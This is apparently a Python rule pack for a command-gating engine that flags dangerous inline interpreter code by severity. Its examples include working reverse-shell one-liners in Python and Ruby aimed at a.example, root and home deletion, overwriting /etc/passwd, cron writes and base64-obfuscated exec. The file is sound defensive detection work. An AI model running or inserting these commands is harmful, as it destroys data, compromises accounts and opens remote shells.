"""Inline-code rules, raised when interpreter payloads (python -c, code.run, …) are read."""

from __future__ import annotations

from engine.gate.packs.model import CATASTROPHIC, DANGEROUS, IRREVERSIBLE, Pack, rule

RULES = [
    rule("code.delete-root", CATASTROPHIC, "exec fs", "the code deletes a filesystem root or home directory",
         trigger=True, tier=IRREVERSIBLE,
         examples=["python -c \"import shutil; shutil.rmtree('/home/user')\"", "ruby -e \"FileUtils.rm_rf('/')\""],
         counter=["python -c \"import shutil; shutil.rmtree('build')\""]),
    rule("code.delete-system", DANGEROUS, "exec fs", "the code deletes files under a system directory", trigger=True,
         tier=IRREVERSIBLE, examples=["python3 -c \"import os; os.remove('/etc/hosts')\""],
         counter=["python3 -c \"import os; os.remove('x.txt')\""]),
    rule("code.delete", DANGEROUS, "exec fs", "the code deletes files", trigger=True,
         examples=["python -c \"import shutil; shutil.rmtree('/tmp/demo')\"", "node -e \"require('fs').unlinkSync('a')\""],
         counter=["python -c 'print(1)'"]),
    rule("code.write-auth", CATASTROPHIC, "exec fs creds", "the code overwrites an account, sudo or boot file",
         trigger=True, tier=IRREVERSIBLE, examples=["python -c \"open('/etc/passwd','w').write('x')\""],
         counter=["python -c \"open('out.txt','w').write('x')\""]),
    rule("code.write-system", DANGEROUS, "exec fs evasion", "the code writes into a system directory or start-up file",
         trigger=True, tier=IRREVERSIBLE, examples=["python -c \"open('/etc/cron.d/x','w').write('x')\""],
         counter=["python -c \"open('out.txt','w').write('x')\""]),
    rule("code.write", DANGEROUS, "exec fs", "the code writes files", trigger=True,
         examples=["node -e 'require(\"fs\").writeFileSync(\"/tmp/out\", \"D\")'", "python -c 'open(\"o\",\"w+\").write(\"D\")'"],
         counter=["python -c 'print(open(\"o\").read())'"]),
    rule("code.network", DANGEROUS, "exec net", "the code talks to the network", trigger=True, tier=IRREVERSIBLE,
         examples=["python -c \"import urllib.request; urllib.request.urlopen('https://x.example')\""],
         counter=["python -c 'print(2)'"]),
    rule("code.reverse-shell", CATASTROPHIC, "exec net", "the code connects a shell to a network socket",
         trigger=True, tier=IRREVERSIBLE,
         examples=["python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"a.example\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
                   "ruby -rsocket -e 'c=TCPSocket.new(\"a.example\",1);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'"],
         counter=["python -c 'import socket; print(socket.gethostname())'"]),
    rule("code.native", DANGEROUS, "exec injection", "the code loads a native library", trigger=True,
         examples=["python -c 'from ctypes import cdll; cdll.LoadLibrary(\"/x/lib.so\")'"], counter=["python -c 'import os'"]),
    rule("code.obfuscated", DANGEROUS, "exec obfuscation", "the code decodes or evaluates text at run time",
         trigger=True, examples=["python -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\""],
         counter=["python -c 'print(1)'"]),
    rule("shell.unknown", DANGEROUS, "exec", "runs a program that is not on the read-only list", trigger=True,
         examples=["addnums", "frobnicate --all"], counter=["ls -la"]),
]

PACK = Pack("core.code", "Inline code payloads (python -c, node -e, code.run): deletions, writes, sockets.", rules=RULES, core=True)
